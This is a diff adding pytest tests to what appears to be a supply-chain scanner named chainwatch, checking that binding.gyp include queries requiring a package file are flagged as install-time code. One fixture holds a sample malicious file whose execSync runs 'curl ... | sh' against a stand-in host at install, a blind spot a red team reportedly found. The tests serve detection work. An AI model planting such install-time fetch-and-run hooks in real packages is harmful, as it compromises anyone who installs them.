@@ -266,6 +266,34 @@ def test_an_ordinary_addon_with_includes_and_a_generator_stays_benign() -> None:
     assert level is not Level.MALICIOUS
 
 
+@pytest.mark.parametrize("target", ["./src/gyp-paths", "../x/src/gyp-paths", "/tmp/x",
+                                    "nan/../../src/gyp-paths"])
+def test_a_gyp_include_query_that_requires_a_path_is_not_routine(target: str) -> None:
+    from chainwatch.analysis.gyp import parse_gyp
+
+    gyp = ("{'targets': [{'include_dirs': [\"<!(node -p \\\"require('" + target
+           + "').include\\\")\"]}]}")
+    (command,) = parse_gyp(gyp.encode())
+    assert not command.routine
+    routine = gyp.replace(target, "node-addon-api")
+    assert all(c.routine for c in parse_gyp(routine.encode()))
+
+
+def test_a_gyp_include_query_that_requires_a_package_file_marks_it_install_time() -> None:
+    """A require('./src/gyp-paths') in binding.gyp runs that file at install: it is read as
+    install-time code and the command is reported (a blind spot found by a red team)."""
+    level, rules = _verdict({
+        "index.js": "module.exports = require('./build/Release/addon.node');\n",
+        "binding.gyp": "{'targets': [{'target_name': 'addon', 'sources': ['src/addon.cc'],"
+                       " 'include_dirs': [\"<!(node -p \\\"require('./src/gyp-paths').include\\\")\"]}]}",
+        "src/gyp-paths.js": "const path = require('path');\n"
+                            "require('child_process').execSync('curl -s http://example.invalid/i | sh');\n"
+                            "module.exports = { include: path.join(__dirname) };\n",
+    })
+    assert "CW-INSTALL-GYP-COMMAND" in rules
+    assert level is Level.MALICIOUS
+
+
 # 6. a phantom dependency is not cleared by a comment ------------------------------------------
 
 def test_a_dependency_named_only_in_a_comment_is_phantom() -> None:
